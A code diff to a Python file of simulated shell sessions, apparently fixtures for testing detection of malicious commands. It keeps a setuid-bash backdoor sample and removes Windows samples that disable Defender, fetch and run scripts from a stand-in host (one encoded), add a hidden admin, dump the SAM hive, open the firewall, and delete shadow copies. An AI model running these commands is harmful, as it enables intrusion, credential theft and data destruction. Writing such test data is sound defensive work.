@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-LINUX = {
+MISCHIEF = {
     "intruder": r"""
 $ whoami
 ssm-user
@@ -96,38 +96,5 @@ $ exit
     "weakened-shell": r"""
 !$ sudo cp /bin/bash /usr/local/bin/.b && sudo chmod u+s /usr/local/bin/.b
 $ exit
-""",
-}
-
-WINDOWS = {
-    "ad-evil": r"""
-$ hostname
-win-ad-01
-!$ Set-MpPreference -DisableRealtimeMonitoring $true
-!$ IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.50/a.ps1')
-[+] ready
-!$ New-LocalUser -Name support2 -Password (ConvertTo-SecureString 'Made-Up-Pass1!' -AsPlainText -Force)
-Name     Enabled Description
-----     ------- -----------
-support2 True
-
-!$ Add-LocalGroupMember -Group Administrators -Member support2
-!$ reg save HKLM\SAM C:\Windows\Temp\s.hiv
-The operation completed successfully.
-!$ New-NetFirewallRule -DisplayName rdp2 -Direction Inbound -LocalPort 3390 -Protocol TCP -Action Allow
-!$ netsh advfirewall set allprofiles state off
-Ok.
-!$ powershell -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4ANQAwAC8AYgApAA==
-!$ Clear-History
-$ exit
-""",
-    "ad-live": r"""
-$ Get-ADDomain | Select-Object DNSRoot
-DNSRoot
--------
-corp.example.com
-
-!$ Invoke-WebRequest http://198.51.100.50/t.ps1 -UseBasicParsing | iex
-!$ vssadmin delete shadows /all /quiet
 """,
 }
